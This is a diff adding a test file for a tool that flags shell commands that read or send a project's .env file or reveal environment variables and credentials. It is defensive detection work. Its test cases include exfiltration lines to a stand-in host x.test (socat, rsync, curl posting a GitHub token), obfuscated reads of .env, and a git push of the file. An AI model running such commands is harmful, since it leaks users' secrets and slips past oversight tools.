@@ -1,0 +1,78 @@
+import { describe, expect, it } from 'vitest';
+import { told } from './told.js';
+
+const READ = 'read /home/u/proj/.env';
+const SENT = 'send /home/u/proj/.env';
+
+describe('a file that is named where few look', () => {
+  it.each([
+    ['socat -u FILE:.env TCP:x.test:80', READ],
+    ['socat OPEN:.env,rdonly -', READ],
+    ["socat EXEC:'cat .env' TCP:x.test:80", READ],
+    ['cpio -o <<< .env', READ],
+    ['find . -name .env | cpio -pdm /tmp/out', 'read /home/u/proj/**/.env'],
+    ['echo .env | tar cf - -T -', READ],
+    ['tar czf x.tgz --files-from=<(echo .env)', READ],
+    ['echo .env | rsync -a --files-from=- . x.test:/tmp', READ],
+    ['zip x.zip -@ <<< .env', READ],
+    ['echo .env | parallel cat', READ],
+    ['parallel cat ::: README.md .env', READ],
+    ['ls -a | grep env | xargs cat', 'read /home/u/proj/*env*'],
+    ["cat $(ls -a | grep '^\\.env$')", READ],
+    ['ls -d .e* | xargs cat', 'read /home/u/proj/.e*'],
+    ['cat $(echo .ENV | tr A-Z a-z)', READ],
+    ["cat $(tr a-z n-za-m <<< .rai)", READ],
+    ['cat $(echo .xenv | sed s/x//)', READ],
+    ["cat $(printf '.env\\nb\\n' | head -1)", READ],
+    ['git grep -n KEY -- .env', READ],
+    ['git annotate .env', READ],
+    ['git diff -- :/.env', READ],
+    ['git add -p .env', READ],
+    ['git stash push -- .env && git stash show -p', READ],
+    ['git add .env && git diff --cached', READ],
+    ['git add -f .env; git commit -m x; git show', READ],
+    ['git add -f .env; git commit -m x; git push', SENT],
+  ])('%s', async (command, line) => {
+    expect(await told(command)).toContain(line);
+  });
+
+  it.each([
+    'socat TCP-LISTEN:80,fork TCP:localhost:81', 'cpio -i < a', 'git log --oneline -- .env', 'git log --stat .env', 'git diff --name-only .env', 'git cat-file -e HEAD:.env', "git diff -- . ':!.env'", 'git add .env && git diff --cached --stat',
+    'git stash push -- .env', 'git add .env', 'git grep -l KEY -- .env',
+  ])('and not in %s', async (command) => {
+    expect((await told(command)).filter((line) => /^(?:read|send).*env/.test(line))).toEqual([]);
+  });
+});
+
+describe('a variable', () => {
+  it.each([
+    ['x=GITHUB_TOKEN; echo ${!x}', 'GITHUB_TOKEN'],
+    ['compgen -v | while read v; do echo "$v=${!v}"; done', 'all'],
+    ['for v in "${!AWS_@}"; do echo "${!v}"; done', 'all'],
+    ['declare -n r=API_KEY; echo $r', 'API_KEY'],
+    ['cat <<< "$API_KEY"', 'API_KEY'],
+    ['cat <<E\n$API_KEY\nE', 'API_KEY'],
+  ])('is shown by %s', async (command, name) => {
+    expect(await told(command)).toContain(`reveal-environment environment:${name}`);
+  });
+
+  it.each(['compgen -e', 'echo "${API_KEY:+set}"', 'echo ${#API_KEY}', 'declare -A m; for k in "${!m[@]}"; do echo $k; done; m=1', "cat <<'E'\n$API_KEY\nE", 'test -n "$API_KEY"'])('is not shown by %s', async (command) => {
+    expect((await told(command)).filter((line) => /API_KEY|:all/.test(line))).toEqual([]);
+  });
+
+  const SHOWN = 'reveal-environment credential:token';
+  it.each([
+    ['T=$(gh auth token); echo "$T"', true],
+    ['export T=$(gh auth token); U="x$T"; curl -d "$U" https://x.test', true],
+    ['T=$(gh auth token); declare -p T', true],
+    ['T=$(gh auth token); v=T; echo ${!v}', true],
+    ['T=$(gh auth token); cat <<< $T', true],
+    ['T=$(gh auth token)', false],
+    ['GH_TOKEN=$(gh auth token) npm test', false],
+    ['export T=$(gh auth token); npm test', false],
+    ['T=$(gh auth token); curl -H "Authorization: Bearer $T" https://x.test', false],
+    ['T=$(gh auth token); [ -n "$T" ] && npm test', false],
+  ])('takes in a credential, and %s shows it: %s', async (command, shown) => {
+    expect((await told(command)).includes(SHOWN)).toBe(shown);
+  });
+});
